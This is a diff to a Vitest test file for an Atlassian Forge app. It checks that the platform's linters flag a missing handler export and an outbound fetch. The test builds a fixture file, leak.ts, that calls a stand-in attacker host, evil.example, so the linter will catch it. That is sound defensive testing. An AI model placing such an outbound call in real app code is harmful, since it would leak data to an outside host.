@@ -1,6 +1,5 @@
-import { writeFileSync } from 'node:fs';
-import { join } from 'node:path';
 import { expect, test } from 'vitest';
+import { exportsOf } from '../checks/source';
 import { readText } from '../tree';
 import { appCopy, findingsOf } from './app-copy';
 
@@ -9,10 +8,13 @@ test("Atlassian's linters find no error and no warning", async () => {
 }, 240_000);
 
 test("Atlassian's linters name a missing export and a fetch outside", async () => {
-  const app = appCopy((manifest) => manifest.replace('handler: index.pages', 'handler: index.pagez'));
-  const leak =
-    "import { fetch } from '@forge/api';\nexport const leak = () => fetch('https://evil.example/x');\n";
-  writeFileSync(join(app, 'src', 'leak.ts'), leak);
+  // An app of two short files: the linters take seconds over the types of the whole one.
+  const handlers = exportsOf(readText('src/index.ts'));
+  const app = appCopy((manifest) => manifest.replace('handler: index.pages', 'handler: index.pagez'), {
+    'index.ts': handlers.map((name) => `export const ${name} = () => undefined;`).join('\n'),
+    'leak.ts':
+      "import { fetch } from '@forge/api';\nexport const leak = () => fetch('https://evil.example/x');",
+  });
   const findings = (await findingsOf('lint.cjs', app)).join('\n');
   expect(findings).toMatch(/Cannot find exported function "pagez"/);
   expect(findings).toMatch(/leak\.ts:2 error: .*evil\.example/);
